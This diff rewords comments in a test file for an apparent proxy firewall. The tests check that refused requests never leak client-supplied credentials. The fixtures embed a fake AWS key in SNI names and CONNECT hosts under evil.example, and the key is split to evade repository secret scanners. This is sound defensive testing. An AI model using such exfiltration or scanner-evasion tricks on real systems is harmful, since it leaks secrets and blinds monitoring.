@@ -1,5 +1,6 @@
-// A refusal names what the client sent. None of it reaches log, metrics, evidence, captures or the response while it holds a
-// credential: SNI names, authorities, hosts and URLs of requests that were refused before any layer inspected them.
+// A refusal names what the client sent. While it holds a credential, none of it reaches log, metrics, evidence,
+// captures or the response: SNI names, authorities, hosts and URLs of requests that were refused before any layer
+// inspected them.
 import {readdirSync, readFileSync} from 'node:fs'
 import {join} from 'node:path'
 import {afterEach, describe, expect, test} from 'vitest'
@@ -21,7 +22,7 @@ async function open(config: Parameters<typeof startWorld>[0]['config'] = {}): Pr
   return world
 }
 
-// in pieces, so that no scanner of this repository finds them here
+// in pieces, so that no scanner of this repository matches them
 const KEYS: Readonly<Record<string, string>> = {
   'an AWS key': ['AKIA', 'Q7RTZ2MNB4XW9KLP'].join(''),
   'a lower-case AWS key': ['akia', 'q7rtz2mnb4xw9klp'].join(''),
@@ -30,7 +31,7 @@ const KEYS: Readonly<Record<string, string>> = {
 
 const line = (first: string, ...fields: string[]): string => `${[first, ...fields].join('\r\n')}\r\n\r\n`
 
-/** Sends everything and returns all that comes back until the listener closes or has answered. */
+/** Sends everything and returns all received bytes until the listener closes or has responded. */
 async function say(port: number, ...parts: (string | Buffer)[]): Promise<string> {
   const client = await RawClient.open(port)
   try {
@@ -47,7 +48,7 @@ async function say(port: number, ...parts: (string | Buffer)[]): Promise<string>
 
 const connectTo = (authority: string): string => line(`CONNECT ${authority} HTTP/1.1`, `Host: ${authority}`)
 
-/** How each refusal is provoked with a text of the client in it. */
+/** One trigger per refusal, with a client-supplied text in it. */
 const REFUSALS: Readonly<Record<string, (world: World, secret: string) => Promise<string>>> = {
   'an SNI name that is not the CONNECT host': (world, secret) =>
     say(world.port, connectTo(`${GOOD}:${world.tls.port}`), clientHello({serverName: `${secret}.evil.example`})),
@@ -94,7 +95,7 @@ const REFUSALS: Readonly<Record<string, (world: World, secret: string) => Promis
     say(world.port, line(`CONNECT ${secret}.evil.example:port HTTP/1.1`, 'Host: x')),
 }
 
-/** Everything a firewall leaves behind in its folder, and its statistics. */
+/** Everything that a firewall leaves in its folder, and its statistics. */
 function traces(world: World): string {
   const texts: string[] = [JSON.stringify(world.firewall.services().metrics.stats())]
   for (const entry of readdirSync(world.folder, {recursive: true, withFileTypes: true})) {
